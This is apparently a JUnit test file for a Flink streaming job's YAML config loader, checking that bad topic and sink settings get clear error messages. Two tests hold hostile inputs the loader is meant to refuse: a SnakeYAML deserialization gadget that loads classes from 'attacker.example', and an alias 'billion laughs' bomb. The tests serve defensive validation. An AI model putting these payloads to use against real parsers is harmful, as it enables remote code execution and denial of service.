package io.github.streamingjob.config;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.List;
import java.util.Map;
import org.apache.flink.table.types.logical.BigIntType;
import org.apache.flink.table.types.logical.TimestampType;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

class ConfigLoaderTest {
  static final String TOPICS = read("config/topics.yaml");
  static final String TRANSFORMATIONS = read("config/transformations.yaml");

  static String read(String path) {
    try {
      return Files.readString(Path.of(path));
    } catch (IOException e) {
      throw new IllegalStateException(e);
    }
  }

  /** The shipped topics.yaml with one change; fails if the text to change is not there. */
  static String topicsWith(String from, String to) {
    assertThat(TOPICS).contains(from);
    return TOPICS.replaceFirst(java.util.regex.Pattern.quote(from), java.util.regex.Matcher.quoteReplacement(to));
  }

  static List<String> problems(String topics, String transformations) {
    try {
      ConfigLoader.parse(topics, transformations);
    } catch (ConfigException e) {
      return e.problems();
    }
    throw new AssertionError("expected the config to be refused");
  }

  @Test
  void loadsTheShippedConfig() {
    JobConfig config = ConfigLoader.parse(TOPICS, TRANSFORMATIONS);
    assertThat(config.enabledTopics()).extracting(TopicDef::name)
        .containsExactly("bid-events", "user-activity", "order-events", "bid-events-aggregated", "customers");
    TopicDef bids = config.topics().get(0);
    assertThat(bids.topic()).isEqualTo("bid-events");
    assertThat(bids.kafkaGroupId()).isEqualTo("flink-bid-events-v1");
    assertThat(bids.scanMode()).isEqualTo(ScanMode.EARLIEST_OFFSET);
    assertThat(bids.sourceSchema().get(0)).isEqualTo(ColumnDef.physical("user_id", new BigIntType()));
    assertThat(bids.sink().tableName()).isEqualTo("bid_events_raw");
    assertThat(bids.sink().schema().get(3)).isEqualTo(ColumnDef.physical("event_time", new TimestampType(3)));
    assertThat(bids.sink().partitionBy()).containsExactly(PartitionField.parse("days(event_time)"));
    TopicDef agg = config.topics().get(3);
    assertThat(agg.topic()).isEqualTo("bid-events");
    assertThat(agg.watermark()).contains(new WatermarkDef("event_time", Duration.ofSeconds(5)));
    assertThat(agg.watermark().get().idleTimeout()).as("the default").contains(Duration.ofSeconds(30));
    assertThat(agg.sourceSchema().get(4)).isEqualTo(ColumnDef.computed("event_time", "TO_TIMESTAMP_LTZ(timestamp_ms, 3)"));
    assertThat(config.transformations().get("bid_events_aggregated").qualifiedClassName())
        .isEqualTo("io.github.streamingjob.transformations.BidEventsAggregatedTransformer");
  }

  @Test
  void loadsFromADirectoryAndFromTheClasspathAlike(@TempDir Path dir) throws IOException {
    Files.writeString(dir.resolve("topics.yaml"), TOPICS);
    Files.writeString(dir.resolve("transformations.yaml"), TRANSFORMATIONS);
    assertThat(ConfigLoader.load(dir)).isEqualTo(ConfigLoader.loadFromClasspath());
  }

  @Test
  void missingDirectoryFileIsNamed(@TempDir Path dir) {
    assertThatThrownBy(() -> ConfigLoader.load(dir))
        .isInstanceOf(ConfigException.class)
        .hasMessageContaining(dir.resolve("topics.yaml") + ": file not found");
  }

  @Test
  void typoInAKeyNamesFileTopicKeyAndSuggestion() {
    assertThat(problems(topicsWith("kafka_group_id: \"flink-orders-v1\"", "kafka_group: \"flink-orders-v1\""),
        TRANSFORMATIONS)).containsExactly(
            "topics.yaml: topic 'order-events': key 'kafka_group': unknown key (did you mean 'kafka_group_id'?) "
                + "(allowed: " + ConfigLoader.TOPIC_KEYS + ")",
            "topics.yaml: topic 'order-events': key 'kafka_group_id': missing (required)");
  }

  @Test
  void unknownTypeIsRejectedWithSuggestion() {
    assertThat(problems(topicsWith("type: \"BIGINT\"", "type: \"BIGNIT\""), TRANSFORMATIONS)).containsExactly(
        "topics.yaml: topic 'bid-events': key 'source_schema[0].type': 'BIGNIT' is not a Flink SQL type: "
            + "unknown type 'BIGNIT' (did you mean 'BIGINT'?)");
  }

  @Test
  void nestedUnknownTypeAndSyntaxErrorsAreRejected() {
    List<String> p = problems(topicsWith("name: \"bid_id\"\n        type: \"STRING\"",
        "name: \"bid_id\"\n        type: \"ARRAY<STRNG>\"")
        .replace("type: \"DOUBLE\"", "type: \"DECIMAL(10,\""), TRANSFORMATIONS);
    assertThat(p).anySatisfy(m -> assertThat(m).startsWith(
        "topics.yaml: topic 'bid-events': key 'source_schema[1].type': 'ARRAY<STRNG>' is not a Flink SQL type: "
            + "unknown type 'STRNG'"));
    assertThat(p).anySatisfy(m -> assertThat(m).startsWith(
        "topics.yaml: topic 'bid-events': key 'source_schema[2].type': 'DECIMAL(10,' is not a Flink SQL type"));
  }

  @Test
  void everyProblemIsReportedAtOnce() {
    String broken = topicsWith("scan_mode: \"earliest-offset\"", "scan_mode: \"earliest\"")
        .replace("format: \"json\"\n    source_schema:\n      - name: \"order_id\"",
            "format: \"xml\"\n    source_schema:\n      - name: \"order_id\"")
        .replace("enabled: true\n    kafka_group_id: \"flink-user-activity-v1\"",
            "enabled: yes please\n    kafka_group_id: \"flink-user-activity-v1\"");
    assertThat(problems(broken, TRANSFORMATIONS)).containsExactly(
        "topics.yaml: topic 'bid-events': key 'scan_mode': 'earliest' is not a scan mode (expected one of "
            + "[earliest-offset, latest-offset, group-offsets, timestamp])",
        "topics.yaml: topic 'user-activity': key 'enabled': 'yes please' is not a boolean (expected true or false)",
        "topics.yaml: topic 'order-events': key 'format': 'xml' is not a supported format (expected one of "
            + "[json, csv, avro, raw, debezium-json, canal-json, maxwell-json, avro-confluent, avro-glue, protobuf-confluent])");
  }

  @Test
  void missingRequiredKeys() {
    String topics = "topics:\n  t:\n    kafka_group_id: g\n";
    assertThat(problems(topics, TRANSFORMATIONS)).containsExactly(
        "topics.yaml: topic 't': key 'source_schema': missing (required)",
        "topics.yaml: topic 't': key 'sink': missing (required)",
        "topics.yaml: topic 't': key 'transformation': missing (required)");
  }

  @Test
  void listWrittenAsAMappingHintsAtTheDash() {
    String topics = topicsWith("source_schema:\n      - name: \"user_id\"\n        type: \"BIGINT\"\n      - name: \"activity_type\"",
        "source_schema:\n      name: \"user_id\"\n      type: \"BIGINT\"\n    x_schema:\n      - name: \"activity_type\"");
    assertThat(problems(topics, TRANSFORMATIONS)).contains(
        "topics.yaml: topic 'user-activity': key 'source_schema': expected a list of columns "
            + "('- name: ..., type: ...'), got a mapping; perhaps you missed a dash prefix '-'?");
  }

  @Test
  void unregisteredTransformationAndDuplicateSinkTable() {
    String topics = topicsWith("transformation: \"order_events_enriched\"", "transformation: \"order_events_enrich\"")
        .replace("table_name: \"user_events_processed\"", "table_name: \"bid_events_raw\"");
    assertThat(problems(topics, TRANSFORMATIONS)).containsExactly(
        "topics.yaml: topic 'user-activity': key 'sink.table_name': table 'bid_events_raw' is already written by "
            + "topic 'bid-events' (each enabled topic needs its own sink table)",
        "topics.yaml: topic 'order-events': key 'transformation': 'order_events_enrich' is not registered in "
            + "transformations.yaml (did you mean 'order_events_enriched'?) (registered: [bid_events_raw, "
            + "user_events_processed, order_events_enriched, bid_events_aggregated, customers_current, payments_raw])");
  }

  @Test
  void disabledTopicsAreParsedButNotCrossChecked() {
    String topics = topicsWith("enabled: true\n    kafka_group_id: \"flink-orders-v1\"",
        "enabled: false\n    kafka_group_id: \"flink-orders-v1\"")
        .replace("transformation: \"order_events_enriched\"", "transformation: \"not_written_yet\"");
    JobConfig config = ConfigLoader.parse(topics, TRANSFORMATIONS);
    assertThat(config.topics()).hasSize(6);
    assertThat(config.enabledTopics()).extracting(TopicDef::name).doesNotContain("order-events");
  }

  @Test
  void sinkExtensionsAreChecked() {
    String topics = topicsWith("partition_by: [\"days(event_time)\"]",
        "partition_by: [\"days(event_tim)\", \"bucket(0, user_id)\", \"weeks(event_time)\"]\n"
            + "      primary_key: [\"bid_di\"]\n      properties:\n        write.format.default: parquet");
    assertThat(problems(topics, TRANSFORMATIONS)).containsExactly(
        "topics.yaml: topic 'bid-events': key 'sink.partition_by[0]': 'event_tim' is not a column of sink.schema "
            + "(did you mean 'event_time'?)",
        "topics.yaml: topic 'bid-events': key 'sink.partition_by[1]': 'bucket(0, user_id)': the width must be positive",
        "topics.yaml: topic 'bid-events': key 'sink.partition_by[2]': 'weeks(event_time)' is not a partition "
            + "transform (expected one of: col, years(col), months(col), days(col), hours(col), bucket(N, col), "
            + "truncate(N, col))",
        "topics.yaml: topic 'bid-events': key 'sink.primary_key': 'bid_di' is not a column of sink.schema "
            + "(did you mean 'bid_id'?)");
  }

  @Test
  void sinkExtensionsAreParsed() {
    String topics = topicsWith("partition_by: [\"days(event_time)\"]",
        "partition_by: [\"bucket(16, user_id)\", \"hours(event_time)\"]\n"
            + "      primary_key: [\"bid_id\"]\n      properties:\n        write.parquet.compression-codec: zstd");
    SinkDef sink = ConfigLoader.parse(topics, TRANSFORMATIONS).topics().get(0).sink();
    assertThat(sink.partitionBy()).containsExactly(
        new PartitionField(PartitionField.Transform.BUCKET, "user_id", 16),
        new PartitionField(PartitionField.Transform.HOURS, "event_time", 0));
    assertThat(sink.primaryKey()).containsExactly("bid_id");
    assertThat(sink.properties()).isEqualTo(Map.of("write.parquet.compression-codec", "zstd"));
  }

  @Test
  void idleTimeoutIsADurationOrOff() throws Exception {
    String from = "column: \"event_time\"\n      delay: \"5 s\"";
    TopicDef off = ConfigLoader.parse(topicsWith(from, from + "\n      idle_timeout: off"), TRANSFORMATIONS)
        .topics().get(3);
    assertThat(off.watermark().get().idleTimeout()).isEmpty();
    TopicDef minute = ConfigLoader.parse(topicsWith(from, from + "\n      idle_timeout: \"1 min\""), TRANSFORMATIONS)
        .topics().get(3);
    assertThat(minute.watermark()).contains(new WatermarkDef("event_time", Duration.ofSeconds(5),
        java.util.Optional.of(Duration.ofMinutes(1))));
    assertThat(problems(topicsWith(from, from + "\n      idle_timeout: \"0 s\""), TRANSFORMATIONS)).containsExactly(
        "topics.yaml: topic 'bid-events-aggregated': key 'watermark.idle_timeout': '0 s' is not a positive duration "
            + "(write 'off' for a watermark that waits for every partition)");
    assertThat(problems(topicsWith(from, from + "\n      idle_timeout: never"), TRANSFORMATIONS)).containsExactly(
        "topics.yaml: topic 'bid-events-aggregated': key 'watermark.idle_timeout': 'never' is not a duration "
            + "(e.g. '5 s', '500 ms', '1 min')");
  }

  @Test
  void watermarkMustNameASourceColumnAndADuration() {
    String topics = topicsWith("column: \"event_time\"\n      delay: \"5 s\"", "column: \"event_tme\"\n      delay: \"soon\"");
    assertThat(problems(topics, TRANSFORMATIONS)).containsExactly(
        "topics.yaml: topic 'bid-events-aggregated': key 'watermark.column': 'event_tme' is not a column of source_schema",
        "topics.yaml: topic 'bid-events-aggregated': key 'watermark.delay': 'soon' is not a duration "
            + "(e.g. '5 s', '500 ms', '1 min')");
  }

  @Test
  void kafkaPropertiesThatTheJobOwnsAreRefused() {
    String topics = topicsWith("kafka_group_id: \"flink-orders-v1\"",
        "kafka_group_id: \"flink-orders-v1\"\n    kafka_properties:\n      group.id: other\n      max.poll.records: 1000");
    assertThat(problems(topics, TRANSFORMATIONS)).containsExactly(
        "topics.yaml: topic 'order-events': key 'kafka_properties.group.id': is set by the job from the runtime "
            + "properties (Kafka group), not per topic");
  }

  @Test
  void duplicateColumnsAndDuplicateYamlKeys() {
    String dupColumn = topicsWith("- name: \"bid_id\"", "- name: \"user_id\"");
    assertThat(problems(dupColumn, TRANSFORMATIONS)).containsExactly(
        "topics.yaml: topic 'bid-events': key 'source_schema[1].name': duplicate column 'user_id'");
    String dupKey = topicsWith("scan_mode: \"earliest-offset\"", "scan_mode: \"earliest-offset\"\n    scan_mode: \"latest-offset\"");
    assertThat(problems(dupKey, TRANSFORMATIONS)).singleElement().asString()
        .startsWith("topics.yaml: not valid YAML:").contains("found duplicate key scan_mode");
  }

  @Test
  void emptyFileAndNonYamlAndWrongShape() {
    assertThat(problems("", TRANSFORMATIONS)).containsExactly("topics.yaml: the file is empty");
    assertThat(problems("topics: [unclosed", TRANSFORMATIONS)).singleElement().asString()
        .startsWith("topics.yaml: not valid YAML:");
    assertThat(problems("just a sentence", TRANSFORMATIONS))
        .containsExactly("topics.yaml: expected a mapping with key 'topics', got 'just a sentence'");
    assertThat(problems(TOPICS, "\u0000\u0001binary")).first().asString()
        .startsWith("transformations.yaml: not valid YAML:");
  }

  @Test
  void yamlTagsNamingJavaClassesAreRefused() {
    String hostile = "topics: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL "
        + "[\"http://attacker.example/\"]]]]\n";
    assertThat(problems(hostile, TRANSFORMATIONS)).singleElement().asString()
        .startsWith("topics.yaml: not valid YAML:").contains("javax.script.ScriptEngineManager");
  }

  @Test
  void aliasBombsAreRefused() {
    StringBuilder bomb = new StringBuilder("a: &a [\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\"]\n");
    for (char c = 'b'; c <= 'j'; c++) {
      char p = (char) (c - 1);
      bomb.append(c).append(": &").append(c).append(" [*").append(p).append(",*").append(p).append(",*").append(p)
          .append(",*").append(p).append(",*").append(p).append(",*").append(p).append(",*").append(p).append(",*")
          .append(p).append(",*").append(p).append("]\n");
    }
    bomb.append("topics: *j\n");
    assertThat(problems(bomb.toString(), TRANSFORMATIONS)).singleElement().asString()
        .startsWith("topics.yaml: not valid YAML:").contains("Number of aliases for non-scalar nodes exceeds");
  }

  @Test
  void transformationsFileIsCheckedToo() {
    String transformations = TRANSFORMATIONS.replace("    class: \"UserEventsProcessedTransformer\"",
        "    clas: \"UserEventsProcessedTransformer\"");
    assertThat(problems(TOPICS, transformations)).containsExactly(
        "transformations.yaml: transformation 'user_events_processed': key 'clas': unknown key "
            + "(did you mean 'class'?) (allowed: [class, module, description])",
        "transformations.yaml: transformation 'user_events_processed': key 'class': missing (required)",
        "topics.yaml: topic 'user-activity': key 'transformation': 'user_events_processed' is not registered in "
            + "transformations.yaml (registered: [bid_events_raw, order_events_enriched, bid_events_aggregated, "
            + "customers_current, payments_raw])");
  }

  @Test
  void unquotedScalarsKeepTheTextAsWrittenNotYaml11Numbers() {
    String topics = topicsWith("    kafka_group_id: \"flink-bid-events-v1\"\n",
        "    kafka_group_id: 010\n    scan_timestamp_ms: 1700000000000\n"
            + "    kafka_properties:\n      client.rack: 1:30\n      client.id: NO\n"
            + "    format_options:\n      timestamp-format.standard: ISO-8601\n      map-null-key.literal: 2024-01-01\n");
    TopicDef bids = ConfigLoader.parse(topics, TRANSFORMATIONS).topics().get(0);
    assertThat(bids.kafkaGroupId()).isEqualTo("010");
    assertThat(bids.startupTimestampMillis()).contains(1_700_000_000_000L);
    assertThat(bids.kafkaProperties()).containsEntry("client.rack", "1:30").containsEntry("client.id", "NO");
    assertThat(bids.formatOptions()).containsEntry("map-null-key.literal", "2024-01-01");
  }

  @Test
  void classValuedKeysAreRecognised() {
    assertThat(List.of("interceptor.classes", "sasl.login.class", "sasl.login.callback.handler.class", "metric.reporters",
        "key.deserializer", "config.providers", "config.providers.file.class", "security.providers",
        "write.location-provider.impl", "ssl.engine.factory.class"))
        .allSatisfy(k -> assertThat(ConfigLoader.namesClasses(k)).as(k).isTrue());
    assertThat(List.of("max.poll.records", "isolation.level", "client.rack", "write.format.default",
        "write.target-file-size-bytes", "fail-on-missing-field"))
        .allSatisfy(k -> assertThat(ConfigLoader.namesClasses(k)).as(k).isFalse());
  }

  @Test
  void maintenanceKeepsDefaultsForWhatItLeavesOutAndAnchorsShareIt() {
    String topics = topicsWith("      table_name: \"bid_events_raw\"\n", "      table_name: \"bid_events_raw\"\n"
        + "      maintenance: &quick\n"
        + "        check_every: \"10 s\"\n"
        + "        rewrite_data_files: {every_commits: 3, every: \"30 min\", target_file_size: \"64 mb\"}\n"
        + "        expire_snapshots: {older_than: \"6 h\"}\n"
        + "        delete_orphan_files: {enabled: false}\n");
    topics = topics.replaceFirst("      table_name: \"user_events_processed\"\n",
        "      table_name: \"user_events_processed\"\n      maintenance: *quick\n");
    JobConfig config = ConfigLoader.parse(topics, TRANSFORMATIONS);
    MaintenanceDef bids = config.topics().stream().filter(t -> t.name().equals("bid-events")).findFirst().orElseThrow()
        .sink().maintenance();
    assertThat(bids.enabled()).isEmpty();
    assertThat(bids.checkEvery()).isEqualTo(java.time.Duration.ofSeconds(10));
    assertThat(bids.rewrite()).contains(new MaintenanceDef.Schedule(3, java.time.Duration.ofMinutes(30)));
    assertThat(bids.targetFileSizeBytes()).isEqualTo(64L << 20);
    assertThat(bids.minInputFiles()).isEqualTo(MaintenanceDef.DEFAULT.minInputFiles());
    assertThat(bids.expire()).isEqualTo(MaintenanceDef.DEFAULT.expire());
    assertThat(bids.expireOlderThan()).isEqualTo(java.time.Duration.ofHours(6));
    assertThat(bids.retainLast()).isEqualTo(MaintenanceDef.DEFAULT.retainLast());
    assertThat(bids.orphans()).isEmpty();
    assertThat(config.topics().stream().filter(t -> t.name().equals("user-activity")).findFirst().orElseThrow()
        .sink().maintenance()).isEqualTo(bids);
    assertThat(config.topics().stream().filter(t -> t.name().equals("order-events")).findFirst().orElseThrow()
        .sink().maintenance()).isEqualTo(MaintenanceDef.DEFAULT);
  }

  @Test
  void maintenanceRefusesWhatItCannotRun() {
    assertThat(problems(topicsWith("      table_name: \"bid_events_raw\"\n", "      table_name: \"bid_events_raw\"\n"
        + "      maintenance: {enabled: \"yes\", check_every: \"500 ms\", expire_snapshots: [1]}\n"), TRANSFORMATIONS))
        .containsExactly(
            "topics.yaml: topic 'bid-events': key 'sink.maintenance.enabled': expected true or false, got 'yes'",
            "topics.yaml: topic 'bid-events': key 'sink.maintenance.check_every': must be at least 1 s (Iceberg's "
                + "monitor polls the table at most once a second)",
            "topics.yaml: topic 'bid-events': key 'sink.maintenance.expire_snapshots': expected a mapping with keys "
                + "[enabled, every_commits, every, older_than, retain_last], got a list (remove the dash prefix '-'?)");
  }
}
